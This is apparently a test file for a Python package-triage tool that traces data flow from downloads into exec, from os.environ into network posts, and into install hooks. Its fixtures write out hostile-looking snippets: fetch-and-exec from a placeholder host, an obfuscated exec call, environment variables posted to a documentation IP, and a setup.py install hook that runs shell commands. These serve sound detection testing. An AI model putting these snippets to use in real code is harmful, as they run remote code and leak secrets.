"""Data flow in Python: what arrives, and what does not; and nothing breaks it."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vedette.core.errors import LimitHit
from vedette.triage.allowance import Allowance
from vedette.triage.fact import Act, Fact, When
from vedette.triage.facts.python import facts, reading
from vedette.triage.kinds import Kind
from vedette.triage.sample import Sample


def read(text: str, name: str = "a.py", parent: str = "") -> list[Fact]:
    return list(facts(Sample(name=name, data=text.encode(), kind=Kind.PYTHON, parent=parent), Allowance()))


def fed(text: str, act: Act) -> set[Act]:
    """Return what flows into an act, over any number of steps."""
    waiting, found = [one for one in read(text) if one.act is act], set[Act]()
    while waiting:
        one = waiting.pop()
        waiting += one.inputs
        found |= {each.act for each in one.inputs}
    return found


GET = "import requests as r\n"


@pytest.mark.parametrize(
    "text",
    [
        "def get():\n    return r.get('http://x.invalid').text\nexec(get())\n",
        "class A:\n    def __init__(self):\n        self.c = r.get('http://x.invalid').text\n    def go(self):\n        exec(self.c)\nA().go()\n",  # noqa: E501
        "parts = []\nparts.append(r.get('http://x.invalid').text)\nexec(''.join(parts))\n",
        "d = {'a': r.get('http://x.invalid').text}\nexec(d['a'])\n",
        "c = ''\nfor line in r.get('http://x.invalid').iter_lines():\n    c += line\nexec(c)\n",
        "getattr(__import__('buil' + 'tins'), 'ex' + 'ec')(r.get('http://x.invalid').text)\n",
        "open('/tmp/abc.py', 'w').write(r.get('http://x.invalid').text)\nexec(open('/tmp/abc.py').read())\n",
    ],
)
def test_what_is_downloaded_arrives(text: str) -> None:
    assert Act.DOWNLOADS in fed(GET + text, Act.RUNS_CODE)


@pytest.mark.parametrize(
    "text",
    [
        "x = r.get('http://x.invalid').text\nexec('1')\n",
        "x = r.get('http://x.invalid').text\nx = 'print(1)'\nexec(x)\n",
        "def get():\n    r.get('http://x.invalid')\n    return 'print(1)'\nexec(get())\n",
        "open('/tmp/abc.py', 'w').write(r.get('http://x.invalid').text)\nexec(open('/tmp/other.py').read())\n",
    ],
)
def test_what_only_stands_beside_it_does_not(text: str) -> None:
    assert Act.DOWNLOADS not in fed(GET + text, Act.RUNS_CODE)


def test_many_lines_of_comments_take_no_longer_than_others() -> None:
    began = time.process_time()
    found = read(GET + "# nothing\n" * 40_000 + "exec(r.get('http://x.invalid').text)\n")
    assert Act.RUNS_CODE in {one.act for one in found}
    assert time.process_time() - began < 10


def test_what_is_not_followed_is_told_after_what_is(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reading, "FOLLOWED_BYTES", 1 << 15)
    text = "import os\nos.system('id')\n" + "x = 1234567890\n" * 3000
    sample = Sample(name="a.py", data=text.encode(), kind=Kind.PYTHON)
    found: list[Fact] = []
    with pytest.raises(LimitHit, match="only its first"):
        found.extend(facts(sample, Allowance()))
    assert Act.RUNS_COMMAND in {one.act for one in found}


def test_brackets_in_brackets_are_told() -> None:
    with pytest.raises(LimitHit, match="nested too deeply"):
        read(f"x = {'(' * 5000}1{')' * 5000}\n")


def test_when_it_happens_follows_from_where_it_stands() -> None:
    text = (
        "import os  # crontab\nos.system('a')\ndef f():\n    os.system('b')\n"
        "if __name__ == '__main__':\n    os.system('c')\n"
    )
    found = {one.target: one.when for one in read(text, "x.whl!/p/__init__.py", "x.whl")}
    assert found == {"a": When.IMPORT, "b": When.CALL, "c": When.RUN}
    assert read("import os\nos.system('a')\n", "x.tar!/x-1/setup.py", "x.tar")[0].when is When.INSTALL


def test_a_module_named_among_others_on_a_line_makes_a_file_worth_following() -> None:
    text = "import os, requests as r\nr.post('http://198.51.100.7/b', json=dict(os.environ))\n"
    found = [one.act for one in read(text, "x.whl!/p/__init__.py", "x.whl")]
    assert Act.SENDS in found
    assert not read("import os, requestsx as r\nr.post(dict(os.environ))\n", "x.whl!/p/__init__.py", "x.whl")


def test_what_an_install_step_of_its_own_does_happens_on_install() -> None:
    text = (
        "import os\nfrom setuptools import setup\nclass Mine:\n    def run(self):\n        os.system('a')\n"
        "setup(cmdclass={'install': Mine})\n"
    )
    assert next(one for one in read(text) if one.act is Act.RUNS_COMMAND).when is When.INSTALL


def test_functions_that_call_one_another_come_to_an_end() -> None:
    text = "def a(x):\n    return b(x + 'a')\ndef b(x):\n    return a(x + 'b') + a(x)\neval(a('1'))\n"
    assert read(text)


@given(
    st.lists(
        st.sampled_from(["(){}[]:\n", "", "='\"exec", "import", "os.x,", "lambda*@def", "class"]), max_size=60
    )
)
def test_no_text_breaks_it(parts: list[str]) -> None:
    for one in read(" ".join(parts)):
        assert one.place.line >= 1  # type: ignore[union-attr]


def test_an_address_nobody_knows_leaves_no_hole_in_the_sentence() -> None:
    text = "import urllib.request\ndef f(m):\n    urllib.request.urlretrieve(m['url'], 'a')\n"
    assert {one.says for one in read(text) if one.act is Act.DOWNLOADS} == {"downloads"}
    known = text.replace("m['url']", "'http://x.invalid/a'")
    assert "downloads from http://x.invalid/a" in {one.says for one in read(known)}
